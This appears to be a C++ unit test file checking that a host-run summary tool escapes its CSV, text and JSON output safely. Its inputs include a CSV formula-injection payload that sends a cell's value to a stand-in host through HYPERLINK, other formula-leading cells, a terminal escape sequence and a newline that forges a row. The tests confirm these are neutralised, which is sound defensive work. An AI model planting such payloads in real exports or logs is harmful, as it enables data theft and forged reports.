#include "tool/SummaryWriters.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <sstream>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

namespace dorvanta::tool {
namespace {

HostRow Row(std::string host, Standing result = Standing::Success) {
  HostRow row;
  row.Host = std::move(host);
  row.File = "r.jsonl";
  row.Result = result;
  row.PairsRun = 1;
  row.RunTimeMs = 5;
  return row;
}

std::vector<std::wstring> Lines(const std::wstring& text) {
  std::vector<std::wstring> lines;
  std::wistringstream in(text);
  for (std::wstring line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

// A cell a spreadsheet would run as a formula starts with ', and stays quoted
// where RFC 4180 asks for it.
TEST(SummaryWriters, CsvCellsAreNeverFormulas) {
  HostRow row = Row(R"x(=HYPERLINK("http://x.example/?"&C2,"see"))x");
  row.Note = "@SUM(1+1)";
  row.RunTimeMs = -3;
  const std::vector<HostRow> rows{row,         Row("+1+1"), Row("-2"),
                                  Row("\tpc"), Row("\rpc"), Row("pc=1")};
  EXPECT_EQ(
      SummaryCsv(rows),
      "host,file,result,pairs_run,failed_actions,reboot_needed,run_time_ms,note,start,ini_sha256\n"
      R"x("'=HYPERLINK(""http://x.example/?""&C2,""see"")",r.jsonl,success,1,,no,'-3,'@SUM(1+1),,)x"
      "\n'+1+1,r.jsonl,success,1,,no,5,,,\n"
      "'-2,r.jsonl,success,1,,no,5,,,\n"
      "'\tpc,r.jsonl,success,1,,no,5,,,\n"
      "\"'\rpc\",r.jsonl,success,1,,no,5,,,\n"
      "pc=1,r.jsonl,success,1,,no,5,,,\n");
}

// Escape sequences reach no terminal, and a line break in a host name forges no row.
TEST(SummaryWriters, TheTextShowsControlsEscaped) {
  const std::vector<HostRow> rows{Row("pc-a\x1b]0;owned\x07"),
                                  Row("pc-c\npc-b  success", Standing::Failure)};
  const std::vector<std::wstring> lines = Lines(SummaryText(rows));
  ASSERT_GE(lines.size(), 3U);
  EXPECT_EQ(lines[1],
            L"pc-a\\x1b]0;owned\\x07  success  1          -               no      0.005 s   -  "
            L"      -");
  EXPECT_EQ(lines[2],
            L"pc-c\\npc-b  success   failure  1          -               no      0.005 s   -  "
            L"      -");
  EXPECT_EQ(lines.size(), 9U);
  EXPECT_EQ(lines.back(), L"  pc-c\\npc-b  success  failure");
}

// The whole value stays in the JSON; the text cuts it and stays small.
TEST(SummaryWriters, LongCellsAreCutInTheTextAlone) {
  HostRow huge = Row(std::string(1 << 20, 'h'), Standing::Failure);
  for (int i = 0; i < 2000; ++i) {
    huge.Failed.push_back(FailedAction{1, "ACTION1", std::nullopt, 1603, std::nullopt});
  }
  const std::vector<HostRow> rows{huge, Row("pc")};
  const std::wstring text = SummaryText(rows);
  EXPECT_LT(text.size(), 1000U);
  const std::vector<std::wstring> lines = Lines(text);
  EXPECT_EQ(lines[1].substr(0, 50), std::wstring(45, L'h') + L"...  ");
  EXPECT_NE(lines[1].find(L"ACTION1 1603, ACTION1 1603, ACTION1 1603, ACTIO..."),
            std::wstring::npos);
  EXPECT_EQ(lines[2].substr(0, 50), L"pc" + std::wstring(48, L' '));

  const nlohmann::json document = nlohmann::json::parse(SummaryJson(rows));
  EXPECT_EQ(document["hosts"][0]["host"].get<std::string>().size(), std::size_t{1} << 20);
  EXPECT_EQ(document["hosts"][0]["failedActions"].size(), 2000U);
  EXPECT_NE(SummaryCsv(rows).find(std::string(1 << 20, 'h')), std::string::npos);
}

// A multi-byte character at the cut is kept whole or left out, never halved.
TEST(SummaryWriters, ACutKeepsCharactersWhole) {
  std::string host;
  for (int i = 0; i < 60; ++i) host += "\xC3\xA9";  // é
  const std::vector<std::wstring> lines = Lines(SummaryText({Row(host)}));
  EXPECT_EQ(lines[1].substr(0, 48), std::wstring(45, L'\xE9') + L"...");
  const std::wstring exact(48, L'\xE9');
  host.resize(96);
  EXPECT_EQ(Lines(SummaryText({Row(host)}))[1].substr(0, 48), exact);
}

TEST(SummaryWriters, AnExpectedHostWithoutARecordNeedsAttention) {
  HostRow missing;
  missing.Host = "pc-z";
  missing.Result = Standing::NoRecord;
  const std::vector<HostRow> rows{Row("pc-a"), missing};
  const std::vector<std::wstring> lines = Lines(SummaryText(rows));
  EXPECT_EQ(lines[2], L"pc-z  no record  -          -               no      -         -        -");
  EXPECT_EQ(lines[4], L"Hosts: 2; success 1, no record 1");
  EXPECT_EQ(lines[5], L"  rule file unknown: 2; success 1, no record 1");
  EXPECT_EQ(lines[8], L"  pc-z  no record");
  const nlohmann::json document = nlohmann::json::parse(SummaryJson(rows));
  EXPECT_EQ(document["hosts"][1]["file"], nullptr);
  EXPECT_EQ(document["totals"]["no record"], 1);
  EXPECT_EQ(document["attention"][0]["result"], "no record");
  EXPECT_EQ(SummaryCsv(rows).substr(SummaryCsv(rows).rfind("pc-z")), "pc-z,,no record,,,no,,,,\n");
}

// Each row tells when its run started and which rule file it ran (the hash's
// beginning in the text, whole in the documents); the totals are split by rule
// file, and the records left out for a newer one are counted and named.
// An action without an exit code either never started or was ended at the
// run's time limit; the row says which.
TEST(SummaryWriters, AFailedActionSaysWhetherItStarted) {
  HostRow row;
  row.Failed.push_back(FailedAction{1, "ACTION1", std::nullopt, std::nullopt, "timed out"});
  row.Failed.push_back(FailedAction{2, "ACTION2", std::nullopt, std::nullopt, "File not found."});
  row.Failed.push_back(FailedAction{2, "ACTION2", std::nullopt, 1603, std::nullopt});
  EXPECT_EQ(FailedText(row), "ACTION1 timed out, ACTION2 not started, ACTION2 1603");
}

TEST(SummaryWriters, StartRuleFileAndOlderRecords) {
  const std::string hashA(64, 'a');
  const std::string hashB = "0123456789ab" + std::string(52, 'b');
  HostRow a = Row("pc-a");
  a.Start = "2026-12-09T08:00:00.000Z";
  a.IniSha256 = hashA;
  HostRow b = Row("pc-b", Standing::Failure);
  b.Start = "2026-12-09T09:00:00.000Z";
  b.IniSha256 = hashB;
  HostRow c = Row("pc-c");
  c.IniSha256 = hashB;
  HostRow old = Row("PC-A", Standing::Failure);
  old.File = "old.jsonl";
  old.Start = "2026-12-08T08:00:00.000Z";
  const std::vector<HostRow> rows{a, b, c};
  const std::vector<std::wstring> lines = Lines(SummaryText(rows, {old}));
  EXPECT_EQ(lines[1].substr(lines[1].size() - 38), L"2026-12-09T08:00:00.000Z  aaaaaaaaaaaa");
  EXPECT_EQ(lines[2].substr(lines[2].size() - 38), L"2026-12-09T09:00:00.000Z  0123456789ab");
  EXPECT_EQ(lines[3].substr(lines[3].size() - 38), L"-" + std::wstring(25, L' ') + L"0123456789ab");
  EXPECT_EQ(lines[5], L"Hosts: 3; success 2, failure 1");
  EXPECT_EQ(lines[6], L"  rule file 0123456789ab: 2; success 1, failure 1");
  EXPECT_EQ(lines[7], L"  rule file aaaaaaaaaaaa: 1; success 1");
  EXPECT_EQ(lines[9], L"Older records left out for a newer one of their host: 1");
  EXPECT_EQ(lines[10], L"  PC-A  old.jsonl  2026-12-08T08:00:00.000Z");

  const nlohmann::json document = nlohmann::json::parse(SummaryJson(rows, {old}));
  EXPECT_EQ(document["hosts"][1]["iniSha256"], hashB);
  EXPECT_EQ(document["hosts"][1]["start"], "2026-12-09T09:00:00.000Z");
  EXPECT_EQ(document["hosts"][2]["start"], nullptr);
  EXPECT_EQ(document["totalsByRuleFile"][0]["iniSha256"], hashB);
  EXPECT_EQ(document["totalsByRuleFile"][0]["hosts"], 2);
  EXPECT_EQ(document["totalsByRuleFile"][0]["failure"], 1);
  EXPECT_EQ(document["olderRecords"][0]["file"], "old.jsonl");
  EXPECT_EQ(document["olderRecords"][0]["start"], "2026-12-08T08:00:00.000Z");
  EXPECT_NE(SummaryCsv(rows).find(",2026-12-09T09:00:00.000Z," + hashB + "\n"), std::string::npos);
}

}  // namespace
}  // namespace dorvanta::tool
